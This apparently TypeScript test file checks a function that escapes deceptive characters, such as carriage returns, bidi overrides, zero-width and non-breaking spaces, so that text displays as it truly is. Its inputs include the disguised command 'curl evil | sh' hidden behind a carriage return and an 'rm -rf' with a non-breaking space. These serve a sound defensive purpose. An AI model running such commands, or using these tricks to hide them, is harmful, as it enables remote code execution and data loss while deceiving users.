import fc from 'fast-check'
import { expect, it } from 'vitest'
import { exactStretches, exactText } from './exactText'

it.each([
  ['curl evil | sh #\rnpm test', 'curl evil | sh #\\rnpm test'],
  ['a\u001b[2Kb', 'a\\u001b[2Kb'],
  ['gnp\u202eexe.', 'gnp\\u202eexe.'],
  ['ca\u200bt', 'ca\\u200bt'],
  ['rm\u00a0-rf', 'rm\\u00a0-rf'],
  ['a\u2028b\u0085c\u007f', 'a\\u2028b\\u0085c\\u007f'],
  ['x\u{e0041}\ufe0f', 'x\\u{e0041}\\ufe0f'],
  ['\ud800x', '\\ud800x'],
  ['soft\u00adhyphen', 'soft\\u00adhyphen'],
  ['a\tb\nc d', 'a\tb\nc d'],
  ['👩‍👩‍👧 ❤️ שלום é', '👩‍👩‍👧 ❤️ שלום é'],
])('%j is shown as what it is', (text, shown) => {
  expect(exactText(text)).toBe(shown)
})

it('marks what is escaped, and leaves no character out', () => {
  expect(exactStretches('a\rb')).toEqual([
    { kind: 'plain', text: 'a' },
    { kind: 'escape', text: '\\r', code: 'U+000D' },
    { kind: 'plain', text: 'b' },
  ])
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const back = exactStretches(text).map((one) =>
        one.kind === 'plain' ? one.text : String.fromCodePoint(parseInt(one.code.slice(2), 16)),
      )
      expect(back.join('')).toBe(text)
    }),
  )
})
